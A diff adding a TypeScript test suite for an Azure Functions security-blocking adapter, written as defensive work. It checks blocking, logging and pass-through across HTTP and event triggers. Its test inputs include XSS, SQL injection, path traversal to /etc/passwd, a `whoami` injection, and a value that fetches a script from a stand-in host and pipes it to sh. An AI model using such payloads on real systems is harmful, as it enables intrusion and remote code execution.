@@ -1,0 +1,633 @@
+import t from 'tap';
+import { app, HttpRequest, InvocationContext, PreInvocationContext, type HttpRequestInit, type HttpResponseInit } from '@azure/functions';
+import {
+  createPreInvocationHook,
+  protect,
+  protectApp,
+  RaspConfigError,
+  RequestBlockedError,
+  type SecurityEvent,
+} from '../../adapters/azure-functions/index';
+import { clientIp, routeTemplate, stripPort } from '../../adapters/azure-functions/normalize';
+import { ATTACKS, BENIGN } from '../helpers/tables';
+
+type Any = any;
+
+const BASE = 'https://orders-app.azurewebsites.net';
+
+function logs() {
+  const lines: SecurityEvent[] = [];
+  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
+}
+
+let seq = 0;
+/** A real InvocationContext as the worker builds it: invocation id, function name, trigger options. */
+function context(trigger: Record<string, unknown>, triggerMetadata?: Record<string, unknown>): InvocationContext {
+  seq++;
+  return new InvocationContext({
+    invocationId: `8d1c6a3e-0000-4000-8000-${String(seq).padStart(12, '0')}`,
+    functionName: 'orders',
+    triggerMetadata,
+    logHandler: () => undefined,
+    options: { trigger: trigger as Any },
+  });
+}
+
+const HTTP_TRIGGER = { type: 'httpTrigger', name: 'request', methods: ['GET', 'POST'], authLevel: 'anonymous', route: 'orders/{id:int?}' };
+const httpContext = () => context(HTTP_TRIGGER);
+
+/** HTTP header values are bytes: text outside Latin-1 arrives as its UTF-8 bytes read as Latin-1. */
+const asHeader = (s: string): string => (/^[\x00-\xff]*$/.test(s) ? s : Buffer.from(s, 'utf8').toString('latin1'));
+
+interface Placement {
+  where: string;
+  init: HttpRequestInit;
+  /** What the handler must find where the value was put. */
+  read: (req: HttpRequest) => Promise<string | undefined>;
+}
+
+/** Where a value can be placed in an HTTP request, and how the handler reads it back. */
+function placements(value: string): Placement[] {
+  return [
+    {
+      where: 'query',
+      init: { method: 'GET', url: `${BASE}/api/orders?q=${encodeURIComponent(value)}&page=2` },
+      read: async (r) => r.query.get('q') ?? undefined,
+    },
+    {
+      where: 'body',
+      init: {
+        method: 'POST',
+        url: `${BASE}/api/orders`,
+        headers: { 'content-type': 'application/json' },
+        body: { string: JSON.stringify({ items: [{ name: 'x' }, { name: value }] }) },
+      },
+      read: async (r) => ((await r.json()) as Any).items[1].name,
+    },
+    {
+      where: 'header',
+      init: { method: 'GET', url: `${BASE}/api/orders`, headers: { 'x-customer-note': asHeader(value) } },
+      read: async (r) => r.headers.get('x-customer-note') ?? undefined,
+    },
+    {
+      where: 'param',
+      init: { method: 'GET', url: `${BASE}/api/orders/${encodeURIComponent(value)}`, params: { id: value } },
+      read: async (r) => r.params.id,
+    },
+    {
+      where: 'cookie',
+      init: { method: 'GET', url: `${BASE}/api/orders`, headers: { cookie: `session=abc123; pref=${encodeURIComponent(value)}` } },
+      read: async (r) => {
+        const m = /pref=([^;]*)/.exec(r.headers.get('cookie') ?? '');
+        return m ? decodeURIComponent(m[1]!) : undefined;
+      },
+    },
+  ];
+}
+
+t.test('HTTP: every attack in every source is blocked with 403 and the Lambda body', async (t) => {
+  const calls: HttpRequest[] = [];
+  const { lines, log } = logs();
+  const handler = protect(async (request: HttpRequest) => {
+    calls.push(request);
+    return { status: 200, body: 'ok' };
+  }, { log });
+  let n = 0;
+  for (const a of ATTACKS) {
+    for (const p of placements(a.payload)) {
+      const ctx = httpContext();
+      const res = (await handler(new HttpRequest(p.init), ctx)) as HttpResponseInit;
+      t.equal(res.status, 403, `${a.class} in ${p.where}: ${a.payload}`);
+      t.same(JSON.parse(res.body as string), { error: 'blocked', requestId: ctx.invocationId }, 'same JSON as Lambda, no echo');
+      t.equal((res.headers as Record<string, string>)['content-type'], 'application/json');
+      n++;
+    }
+  }
+  t.equal(calls.length, 0, 'the handler never ran');
+  t.equal(lines.length, n, 'one security event per blocked request');
+  t.ok(lines.every((l) => l.action === 'block' && l.provider === 'azure' && l.trigger === 'http' && l.function === 'orders'));
+});
+
+t.test('HTTP: benign text passes and the handler reads it unchanged, body included', async (t) => {
+  const { lines, log } = logs();
+  for (const text of BENIGN) {
+    for (const p of placements(text)) {
+      let seen: string | undefined;
+      let same = false;
+      const original = new HttpRequest(p.init);
+      const handler = protect(async (request: HttpRequest) => {
+        same = request === original;
+        seen = await p.read(request);
+        return { status: 201 };
+      }, { log });
+      const res = (await handler(original, httpContext())) as HttpResponseInit;
+      t.equal(res.status, 201, `${p.where}: ${text}`);
+      t.ok(same, 'the handler got the very same request object');
+      t.equal(seen, p.where === 'header' ? asHeader(text) : text, 'and read the value unchanged');
+    }
+  }
+  t.equal(lines.length, 0, 'no security events for benign traffic');
+});
+
+t.test('HTTP: the body stays readable as text, JSON and bytes after inspection', async (t) => {
+  const body = JSON.stringify({ customer: "O'Brien", note: 'Tom & Jerry' });
+  const reads: Array<(r: HttpRequest) => Promise<unknown>> = [
+    (r) => r.text(),
+    (r) => r.json(),
+    async (r) => Buffer.from(await r.arrayBuffer()).toString('utf8'),
+  ];
+  for (const read of reads) {
+    let got: unknown;
+    const handler = protect(async (request: HttpRequest) => {
+      t.equal(request.bodyUsed, false, 'body not consumed by inspection');
+      got = await read(request);
+      return { status: 200 };
+    }, { log: false });
+    const req = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json' }, body: { string: body } });
+    await handler(req, httpContext());
+    t.same(typeof got === 'string' ? JSON.parse(got) : got, JSON.parse(body));
+  }
+});
+
+t.test('HTTP: form bodies, repeated query keys, verbatim keys', async (t) => {
+  const handler = protect(async () => ({ status: 200 }), { log: false });
+  const form = new HttpRequest({
+    method: 'POST',
+    url: `${BASE}/api/orders`,
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: { string: 'name=ok&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
+  });
+  t.equal(((await handler(form, httpContext())) as HttpResponseInit).status, 403, 'form body field');
+  const repeated = new HttpRequest({ method: 'GET', url: `${BASE}/api/orders?tag=ok&tag=${encodeURIComponent("1' OR '1'='1")}` });
+  t.equal(((await handler(repeated, httpContext())) as HttpResponseInit).status, 403, 'second value of a repeated key');
+  // The host's own query map (request.query from init) may fold or drop values: the URL is inspected too.
+  const folded = new HttpRequest({ method: 'GET', url: `${BASE}/api/orders?q=${encodeURIComponent('<script>alert(1)</script>')}`, query: { q: 'fine' } });
+  t.equal(((await handler(folded, httpContext())) as HttpResponseInit).status, 403, 'URL query string even when request.query disagrees');
+  const nosql = new HttpRequest({ method: 'GET', url: `${BASE}/api/login?user=admin&password[$ne]=x` });
+  t.equal(((await handler(nosql, httpContext())) as HttpResponseInit).status, 403, 'operator in a query key');
+});
+
+t.test('HTTP: monitor mode lets attacks through with a log line', async (t) => {
+  const { lines, log } = logs();
+  let calls = 0;
+  const handler = protect(async (request: HttpRequest) => {
+    calls++;
+    await request.text();
+    return { status: 200 };
+  }, { mode: 'monitor', log });
+  for (const a of ATTACKS) {
+    const p = placements(a.payload)[1]!; // JSON body
+    const res = (await handler(new HttpRequest(p.init), httpContext())) as HttpResponseInit;
+    t.equal(res.status, 200, `${a.class} passed`);
+  }
+  t.equal(calls, ATTACKS.length);
+  t.equal(lines.length, ATTACKS.length);
+  t.ok(lines.every((l) => l.action === 'monitor' && l.where?.startsWith('body')));
+});
+
+t.test('security events: shape, invocation id, source IP', async (t) => {
+  const { lines, log } = logs();
+  const events: SecurityEvent[] = [];
+  const handler = protect(async () => ({ status: 200 }), { log, onSecurityEvent: (e) => events.push(e) });
+  const ctx = httpContext();
+  await handler(
+    new HttpRequest({
+      method: 'GET',
+      url: `${BASE}/api/orders?q=${encodeURIComponent('../../../../etc/passwd')}`,
+      headers: { 'x-forwarded-for': '10.9.8.7, 203.0.113.7:52110', 'client-ip': '203.0.113.7:52110' },
+    }),
+    ctx,
+  );
+  const e = lines[0]!;
+  t.same(Object.keys(e).sort(), ['action', 'class', 'findings', 'function', 'micros', 'provider', 'requestId', 'rule', 'sourceIp', 'time', 'trigger', 'type', 'where'].sort());
+  t.match(e, { type: 'serverless-rasp', provider: 'azure', function: 'orders', requestId: ctx.invocationId, trigger: 'http', sourceIp: '203.0.113.7', action: 'block', class: 'path-traversal', where: 'query.q' });
+  t.same(events[0], e, 'onSecurityEvent gets the same event');
+});
+
+t.test('client IP: client-ip, else the rightmost x-forwarded-for entry, ports stripped', async (t) => {
+  const h = (m: Record<string, string>) => (name: string) => m[name];
+  t.equal(clientIp(h({ 'client-ip': '203.0.113.7:52110', 'x-forwarded-for': '1.2.3.4, 203.0.113.7:52110' })), '203.0.113.7');
+  t.equal(clientIp(h({ 'x-forwarded-for': '1.2.3.4, 203.0.113.8:443' })), '203.0.113.8', 'forged leftmost entry ignored');
+  t.equal(clientIp(h({ 'x-forwarded-for': '[2001:db8::7]:50432' })), '2001:db8::7');
+  t.equal(clientIp(h({ 'client-ip': '2001:db8::9' })), '2001:db8::9', 'bare IPv6 kept whole');
+  t.equal(clientIp(h({})), undefined);
+  t.equal(stripPort('198.51.100.1'), '198.51.100.1');
+  t.equal(stripPort('[::1]'), '::1');
+});
+
+t.test('route keys for schemas come from the registered route', async (t) => {
+  t.equal(routeTemplate('orders/{id:int}'), 'orders/{id}');
+  t.equal(routeTemplate('orders/{id?}'), 'orders/{id}');
+  t.equal(routeTemplate('files/{*path}'), 'files/{path+}');
+  t.equal(routeTemplate('/a/{b:regex(^x$)}/c'), 'a/{b}/c');
+  const schema = { type: 'object', required: ['qty'], properties: { qty: { type: 'integer' } } };
+  const handler = protect(async () => ({ status: 200 }), { log: false, schemas: { 'POST /orders/{id}': schema } });
+  const ctx = () => context({ type: 'httpTrigger', name: 'request', methods: ['POST'], route: 'orders/{id:int}' });
+  const req = (body: string) =>
+    new HttpRequest({ method: 'POST', url: `${BASE}/api/orders/7`, params: { id: '7' }, headers: { 'content-type': 'application/json' }, body: { string: body } });
+  const bad = (await handler(req('{"qty":"many"}'), ctx())) as HttpResponseInit;
+  t.equal(bad.status, 400, 'schema-only findings answer 400');
+  t.equal(JSON.parse(bad.body as string).error, 'invalid_request');
+  t.equal(((await handler(req('{"qty":2}'), ctx())) as HttpResponseInit).status, 200);
+});
+
+t.test('HTTP: malformed input never crashes and always gets an answer', async (t) => {
+  let calls = 0;
+  const handler = protect(async (request: HttpRequest) => {
+    calls++;
+    await request.text();
+    return { status: 200 };
+  }, { log: false });
+  const post = (body: string, type = 'application/json') =>
+    new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': type }, body: { string: body } });
+  t.equal(((await handler(post('{"items": [1, 2,'), httpContext())) as HttpResponseInit).status, 200, 'invalid JSON is inspected as text');
+  t.equal(((await handler(post("{not json ' OR '1'='1"), httpContext())) as HttpResponseInit).status, 403, 'and attacks in it still count');
+  const big = 'a'.repeat(5 * 1024 * 1024);
+  t.equal(((await handler(post(JSON.stringify({ note: big }), 'application/json'), httpContext())) as HttpResponseInit).status, 200, '5 MB body');
+  const bigAttack = JSON.stringify({ note: big, q: '<script>alert(1)</script>' });
+  t.equal(((await handler(post(bigAttack), httpContext())) as HttpResponseInit).status, 403, '5 MB body with an attack at the end');
+  t.equal(((await handler(post('', 'application/json'), httpContext())) as HttpResponseInit).status, 200, 'empty body');
+  const noType = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, body: { string: '\u0000\u0001binary\u00ff' } });
+  t.equal(((await handler(noType, httpContext())) as HttpResponseInit).status, 200, 'binary without a content type');
+  t.equal(calls, 4, 'every clean request reached the handler');
+});
+
+t.test('library failures fail open (or closed with failClosed)', async (t) => {
+  const { lines, log } = logs();
+  let calls = 0;
+  const open = protect(async () => {
+    calls++;
+    return { status: 200 };
+  }, { log });
+  const used = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'text/plain' }, body: { string: 'hi' } });
+  await used.text(); // someone already consumed it: clone() throws
+  t.equal(((await open(used, httpContext())) as HttpResponseInit).status, 200);
+  t.equal(calls, 1, 'handler ran');
+  t.equal(lines[0]?.action, 'error', 'the failure was reported');
+  const closed = protect(async () => ({ status: 200 }), { log: false, failClosed: true });
+  const used2 = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, body: { string: 'hi' } });
+  await used2.text();
+  t.equal(((await closed(used2, httpContext())) as HttpResponseInit).status, 403);
+});
+
+// ---- non-HTTP triggers ----
+
+interface TriggerCase {
+  name: string;
+  trigger: Record<string, unknown>;
+  /** The payload and trigger metadata the worker passes, with `value` in one attacker-controlled place. */
+  build: (value: string) => { payload: unknown; metadata?: Record<string, unknown> };
+}
+
+const queueMeta = (text: string) => ({
+  queueTrigger: text,
+  dequeueCount: 1,
+  id: '5f7d3b4a-8d0e-4a43-9b43-3c1f7c0f4c11',
+  popReceipt: 'AgAAAAMAAAAAAAAA',
+  insertionTime: '2026-05-01T10:00:00+00:00',
+  expirationTime: '2026-05-08T10:00:00+00:00',
+  nextVisibleTime: '2026-05-01T10:10:00+00:00',
+});
+
+const blobMeta = (name: string, extra: Record<string, unknown> = {}) => ({
+  blobTrigger: `uploads/${name}`,
+  uri: `http://127.0.0.1:10000/devstoreaccount1/uploads/${encodeURIComponent(name)}`,
+  properties: { contentType: 'text/plain', length: 12, eTag: '"0x8DC0A1B2C3D4E5F"', blobType: 'BlockBlob' },
+  metadata: { owner: 'jane' },
+  name,
+  ...extra,
+});
+
+const cosmosDoc = (fields: Record<string, unknown>) => ({
+  id: 'a1b2c3',
+  ...fields,
+  _rid: 'ZkE3AJ8xJbsBAAAAAAAAAA==',
+  _self: 'dbs/ZkE3AA==/colls/ZkE3AJ8xJbs=/docs/ZkE3AJ8xJbsBAAAAAAAAAA==/',
+  _etag: '"00000000-0000-0000-7d6b-1e6e3c9c01da"',
+  _attachments: 'attachments/',
+  _ts: 1714557600,
+  _lsn: 42,
+});
+
+const TRIGGERS: TriggerCase[] = [
+  { name: 'storageQueue text', trigger: { type: 'queueTrigger', name: 'item', queueName: 'orders' }, build: (v) => ({ payload: v, metadata: queueMeta(v) }) },
+  {
+    name: 'storageQueue JSON',
+    trigger: { type: 'queueTrigger', name: 'item', queueName: 'orders' },
+    build: (v) => ({ payload: { order: { id: 7, note: v } }, metadata: queueMeta(JSON.stringify({ order: { id: 7, note: v } })) }),
+  },
+  {
+    name: 'serviceBusQueue body',
+    trigger: { type: 'serviceBusTrigger', name: 'message', queueName: 'orders' },
+    build: (v) => ({ payload: { customer: v }, metadata: { messageId: 'm-1', deliveryCount: 1, contentType: 'application/json', applicationProperties: {} } }),
+  },
+  {
+    name: 'serviceBusQueue application property',
+    trigger: { type: 'serviceBusTrigger', name: 'message', queueName: 'orders' },
+    build: (v) => ({ payload: { customer: 'jane' }, metadata: { messageId: 'm-1', deliveryCount: 1, applicationProperties: { origin: v } } }),
+  },
+  {
+    name: 'serviceBusQueue many',
+    trigger: { type: 'serviceBusTrigger', name: 'messages', queueName: 'orders', cardinality: 'many' },
+    build: (v) => ({ payload: [{ customer: 'jane' }, v], metadata: { messageIdArray: ['m-1', 'm-2'], applicationPropertiesArray: [{}, {}] } }),
+  },
+  {
+    name: 'eventHub many (message)',
+    trigger: { type: 'eventHubTrigger', name: 'events', eventHubName: 'telemetry', cardinality: 'many' },
+    build: (v) => ({
+      payload: ['plain', { device: 'd-1', reading: 21.5 }, { device: 'd-2', label: v }],
+      metadata: {
+        partitionContext: { eventHubName: 'telemetry', consumerGroup: '$Default', partitionId: '0' },
+        propertiesArray: [{}, {}, {}],
+        systemPropertiesArray: [{ SequenceNumber: 1 }, { SequenceNumber: 2 }, { SequenceNumber: 3 }],
+        sequenceNumberArray: [1, 2, 3],
+        enqueuedTimeUtcArray: ['2026-05-01T10:00:00Z', '2026-05-01T10:00:01Z', '2026-05-01T10:00:02Z'],
+      },
+    }),
+  },
+  {
+    name: 'eventHub many (binary message)',
+    trigger: { type: 'eventHubTrigger', name: 'events', eventHubName: 'telemetry', cardinality: 'many' },
+    build: (v) => ({ payload: [Buffer.from('ok'), Buffer.from(JSON.stringify({ label: v }))], metadata: { propertiesArray: [{}, {}] } }),
+  },
+  {
+    name: 'eventHub property',
+    trigger: { type: 'eventHubTrigger', name: 'events', eventHubName: 'telemetry', cardinality: 'many' },
+    build: (v) => ({ payload: [{ reading: 1 }, { reading: 2 }], metadata: { propertiesArray: [{}, { source: v }] } }),
+  },
+  {
+    name: 'eventHub one',
+    trigger: { type: 'eventHubTrigger', name: 'event', eventHubName: 'telemetry', cardinality: 'one' },
+    build: (v) => ({ payload: { label: v }, metadata: { properties: {}, partitionKey: 'p1', sequenceNumber: 9 } }),
+  },
+  {
+    name: 'storageBlob content',
+    trigger: { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' },
+    build: (v) => ({ payload: Buffer.from(JSON.stringify({ title: v })), metadata: blobMeta('report.json') }),
+  },
+  {
+    name: 'storageBlob text content',
+    trigger: { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' },
+    build: (v) => ({ payload: Buffer.from(v), metadata: blobMeta('notes.txt') }),
+  },
+  {
+    name: 'storageBlob name',
+    trigger: { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' },
+    build: (v) => ({ payload: Buffer.from('hello'), metadata: blobMeta(v) }),
+  },
+  {
+    name: 'storageBlob metadata',
+    trigger: { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' },
+    build: (v) => ({ payload: Buffer.from('hello'), metadata: blobMeta('a.txt', { metadata: { owner: v } }) }),
+  },
+  {
+    name: 'cosmosDB documents',
+    trigger: { type: 'cosmosDBTrigger', name: 'documents', databaseName: 'shop', containerName: 'orders' },
+    build: (v) => ({ payload: [cosmosDoc({ customer: 'jane' }), cosmosDoc({ customer: v })] }),
+  },
+  {
+    name: 'eventGrid data',
+    trigger: { type: 'eventGridTrigger', name: 'event' },
+    build: (v) => ({
+      payload: {
+        id: 'e-1',
+        topic: '/subscriptions/0000/resourceGroups/rg/providers/Microsoft.EventGrid/topics/orders',
+        subject: 'orders/7',
+        eventType: 'Shop.OrderPlaced',
+        eventTime: '2026-05-01T10:00:00Z',
+        data: { note: v },
+        dataVersion: '1.0',
+        metadataVersion: '1',
+      },
+    }),
+  },
+  {
+    name: 'eventGrid subject',
+    trigger: { type: 'eventGridTrigger', name: 'event' },
+    build: (v) => ({ payload: { id: 'e-1', subject: v, eventType: 'Shop.OrderPlaced', data: { ok: true }, dataVersion: '1.0' } }),
+  },
+  {
+    name: 'eventGrid CloudEvents schema, base64 data',
+    trigger: { type: 'eventGridTrigger', name: 'event' },
+    build: (v) => ({ payload: { specversion: '1.0', id: 'e-2', source: '/orders', type: 'Shop.OrderPlaced', data_base64: Buffer.from(JSON.stringify({ note: v })).toString('base64') } }),
+  },
+];
+
+t.test('non-HTTP triggers: every attack in every payload field throws RequestBlockedError before the handler', async (t) => {
+  for (const c of TRIGGERS) {
+    t.test(c.name, async (t) => {
+      const { lines, log } = logs();
+      let calls = 0;
+      const handler = protect(async () => {
+        calls++;
+      }, { log });
+      for (const a of ATTACKS) {
+        const { payload, metadata } = c.build(a.payload);
+        const ctx = context(c.trigger, metadata);
+        await t.rejects(handler(payload, ctx), RequestBlockedError, `${a.class}: ${a.payload}`);
+      }
+      t.equal(calls, 0, 'the handler never ran');
+      t.ok(lines.length >= ATTACKS.length && lines.every((l) => l.action === 'block' && l.provider === 'azure'), 'blocks were logged');
+    });
+  }
+});
+
+t.test('non-HTTP triggers: benign text reaches the handler unchanged', async (t) => {
+  for (const c of TRIGGERS) {
+    t.test(c.name, async (t) => {
+      const { lines, log } = logs();
+      for (const text of BENIGN) {
+        const { payload, metadata } = c.build(text);
+        const snapshot = JSON.stringify(payload);
+        let got: unknown;
+        const handler = protect(async (input: unknown) => {
+          got = input;
+          return 'done';
+        }, { log });
+        t.equal(await handler(payload, context(c.trigger, metadata)), 'done', text);
+        t.equal(got, payload, 'the very same payload');
+        t.equal(JSON.stringify(payload), snapshot, 'not modified');
+      }
+      t.same(lines, [], 'no security events');
+    });
+  }
+});
+
+t.test('non-HTTP: the error names the rule and path, never the payload; security event per message', async (t) => {
+  const { lines, log } = logs();
+  const handler = protect(async () => undefined, { log });
+  const ctx = context({ type: 'eventHubTrigger', name: 'events', cardinality: 'many' }, { propertiesArray: [{}, {}] });
+  const err = (await handler([{ a: 1 }, { label: "x'; DROP TABLE customers; --" }], ctx).catch((e: unknown) => e)) as RequestBlockedError;
+  t.type(err, RequestBlockedError);
+  t.equal(err.code, 'RASP_ERR_BLOCKED');
+  t.equal(err.requestId, ctx.invocationId);
+  t.match(err.message, /sqli\.\S+ at payload\[1\]\.label/);
+  t.notMatch(err.message, /DROP TABLE/);
+  t.equal(lines[0]?.requestId, `${ctx.invocationId}#1`, 'the message index is in the event');
+  t.equal(lines[0]?.trigger, 'event-hub');
+});
+
+t.test('non-HTTP: `schema` validates each message', async (t) => {
+  const schema = { type: 'object', required: ['sku'], properties: { sku: { type: 'string', pattern: '^[A-Z0-9-]{3,32}$' } } };
+  let calls = 0;
+  const handler = protect(async () => {
+    calls++;
+  }, { log: false, schema });
+  const q = () => context({ type: 'queueTrigger', name: 'item', queueName: 'orders' });
+  await handler({ sku: 'AB-123' }, q());
+  await t.rejects(handler({ sku: 'nope nope' }, q()), RequestBlockedError, 'invalid message');
+  await t.rejects(handler([{ sku: 'AB-123' }, { qty: 1 }], context({ type: 'serviceBusTrigger', name: 'm', cardinality: 'many' })), RequestBlockedError, 'one invalid message of a batch');
+  t.equal(calls, 1);
+});
+
+t.test('non-HTTP: monitor mode runs the handler and logs', async (t) => {
+  const { lines, log } = logs();
+  let calls = 0;
+  const handler = protect(async () => {
+    calls++;
+  }, { mode: 'monitor', log });
+  for (const c of TRIGGERS) {
+    const { payload, metadata } = c.build(ATTACKS[0]!.payload);
+    await handler(payload, context(c.trigger, metadata));
+  }
+  t.equal(calls, TRIGGERS.length);
+  t.ok(lines.length >= TRIGGERS.length && lines.every((l) => l.action === 'monitor'));
+});
+
+t.test('non-HTTP: malformed and empty payloads never crash', async (t) => {
+  let calls = 0;
+  const handler = protect(async () => {
+    calls++;
+  }, { log: false });
+  const payloads: unknown[] = [null, undefined, '', 0, [], {}, [null, undefined], Buffer.alloc(0), Buffer.from([0, 1, 2, 255, 254]), '{"unterminated": ', 'x'.repeat(5 * 1024 * 1024)];
+  const triggers = ['queueTrigger', 'serviceBusTrigger', 'eventHubTrigger', 'blobTrigger', 'cosmosDBTrigger', 'eventGridTrigger', 'someFutureTrigger'];
+  for (const type of triggers) {
+    for (const p of payloads) await handler(p, context({ type, name: 'x' }, type === 'blobTrigger' ? { blobTrigger: 'uploads/x', name: 'x' } : undefined));
+    await handler({ a: 1 }, context({ type, name: 'x' }, { applicationProperties: null, propertiesArray: 'nope', metadata: 5 }));
+  }
+  t.equal(calls, triggers.length * (payloads.length + 1), 'every invocation reached the handler');
+  // A binary blob (an image) is not inspected as text; its name still is.
+  const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), Buffer.from("' OR '1'='1 <script>")]);
+  await handler(png, context({ type: 'blobTrigger', name: 'blob' }, blobMeta('photo.png')));
+  await t.rejects(handler(png, context({ type: 'blobTrigger', name: 'blob' }, blobMeta('../../../../etc/passwd'))), RequestBlockedError);
+});
+
+t.test('timer, warmup and Durable triggers are not inspected', async (t) => {
+  const { lines, log } = logs();
+  let calls = 0;
+  const handler = protect(async () => {
+    calls++;
+  }, { log });
+  await handler({ schedule: { adjustForDST: true }, isPastDue: false, note: "1' OR '1'='1" }, context({ type: 'timerTrigger', name: 'timer', schedule: '0 */5 * * * *' }));
+  await handler({}, context({ type: 'warmupTrigger', name: 'warmup' }));
+  await handler({ input: '<script>alert(1)</script>' }, context({ type: 'activityTrigger', name: 'input' }));
+  t.equal(calls, 3);
+  t.same(lines, []);
+});
+
+t.test('without trigger options the request shape decides (duck typing)', async (t) => {
+  const handler = protect(async () => ({ status: 200 }), { log: false });
+  const bare = new InvocationContext({ invocationId: 'inv-1', logHandler: () => undefined });
+  const res = (await handler(new HttpRequest({ method: 'GET', url: `${BASE}/api/x?q=${encodeURIComponent('<script>alert(1)</script>')}` }), bare)) as HttpResponseInit;
+  t.equal(res.status, 403, 'an HttpRequest is HTTP');
+  await t.rejects(handler({ q: '<script>alert(1)</script>' }, bare), RequestBlockedError, 'anything else is an event');
+  const lookalike = {
+    method: 'GET',
+    url: `${BASE}/api/x?q=${encodeURIComponent("1' OR '1'='1")}`,
+    headers: new Headers(),
+    body: null,
+    clone() {
+      return this as unknown as { text(): Promise<string> };
+    },
+  };
+  t.equal(((await handler(lookalike as Any, bare)) as HttpResponseInit).status, 403, 'a request-shaped object is HTTP');
+});
+
+t.test('app-wide hook: replaces functionHandler with a protected one', async (t) => {
+  const { lines, log } = logs();
+  const hook = createPreInvocationHook({ log });
+  let calls = 0;
+  const user = async (request: HttpRequest) => {
+    calls++;
+    return { status: 200, body: await request.text() };
+  };
+  const run = async (req: HttpRequest, ctx: InvocationContext, fn: Any = user) => {
+    const pre = new PreInvocationContext({ inputs: [req], invocationContext: ctx, functionCallback: fn });
+    await hook(pre);
+    return { res: (await pre.functionHandler(pre.inputs[0], ctx)) as HttpResponseInit, handler: pre.functionHandler };
+  };
+  const attack = new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, headers: { 'content-type': 'application/json' }, body: { string: '{"q":"$(curl http://evil.example/x.sh | sh)"}' } });
+  const blocked = await run(attack, httpContext());
+  t.equal(blocked.res.status, 403);
+  t.not(blocked.handler, user, 'handler replaced');
+  const ok = await run(new HttpRequest({ method: 'POST', url: `${BASE}/api/orders`, body: { string: 'Tom & Jerry' } }), httpContext());
+  t.same(ok.res, { status: 200, body: 'Tom & Jerry' }, 'clean requests reach the handler with a readable body');
+  t.equal(ok.handler, blocked.handler, 'the wrapper is built once per handler');
+  t.equal(calls, 1);
+
+  // Non-HTTP through the hook.
+  const pre = new PreInvocationContext({ inputs: [{ note: '<img src=x onerror=alert(1)>' }], invocationContext: context({ type: 'queueTrigger', name: 'item' }), functionCallback: async () => 'x' });
+  await hook(pre);
+  await t.rejects(Promise.resolve(pre.functionHandler(pre.inputs[0], pre.invocationContext)), RequestBlockedError);
+
+  // Already protected: not wrapped twice (one security event, not two).
+  const once = protect(user, { log });
+  const before = lines.length;
+  const r = await run(new HttpRequest({ method: 'GET', url: `${BASE}/api/orders?q=${encodeURIComponent('`whoami`')}` }), httpContext(), once);
+  t.equal(r.handler, once, 'left as is');
+  t.equal(r.res.status, 403);
+  t.equal(lines.length - before, 1);
+
+  // Timer triggers keep their handler.
+  const timer = async () => undefined;
+  const tp = new PreInvocationContext({ inputs: [{}], invocationContext: context({ type: 'timerTrigger', name: 't' }), functionCallback: timer });
+  await hook(tp);
+  t.equal(tp.functionHandler, timer);
+
+  // mode off: the hook does nothing.
+  const off = createPreInvocationHook({ mode: 'off' });
+  const op = new PreInvocationContext({ inputs: [attack], invocationContext: httpContext(), functionCallback: user });
+  await off(op);
+  t.equal(op.functionHandler, user);
+});
+
+t.test('protectApp registers the hook (a no-op registration outside the Functions host)', async (t) => {
+  const warn = console.warn;
+  const warnings: string[] = [];
+  console.warn = (...a: unknown[]) => void warnings.push(a.join(' '));
+  try {
+    const d = protectApp({ log: false });
+    t.type(d.dispose, 'function');
+  } finally {
+    console.warn = warn;
+  }
+  t.match(warnings.join('\n'), /preInvocation/);
+  t.throws(() => protectApp({ mode: 'nope' as Any }), RaspConfigError, 'options are checked at registration');
+});
+
+t.test('options and handler are checked at cold start; mode off returns the handler', async (t) => {
+  t.throws(() => protect(null as Any), { code: 'RASP_ERR_HANDLER' });
+  t.throws(() => protect(async () => undefined, { mdoe: 'block' } as Any), { code: 'RASP_ERR_OPTIONS' });
+  const h = async () => undefined;
+  t.equal(protect(h, { mode: 'off' }), h);
+});
+
+t.test('types: protect() fits app.http and app.storageQueue without annotations', async (t) => {
+  const warn = console.warn;
+  console.warn = () => undefined;
+  try {
+    // Compile-time check as much as a run: `request` and `context` are inferred from app.http.
+    app.http('typed', {
+      methods: ['POST'],
+      handler: protect(async (request, context) => {
+        const body = (await request.json()) as { qty?: number };
+        context.log('qty', body.qty);
+        return { status: 200, jsonBody: { qty: body.qty ?? 0 } };
+      }),
+    });
+    app.storageQueue('typedQueue', { queueName: 'orders', connection: 'Storage', handler: protect(async (item, context) => void context.log(item)) });
+  } finally {
+    console.warn = warn;
+  }
+  t.pass();
+});
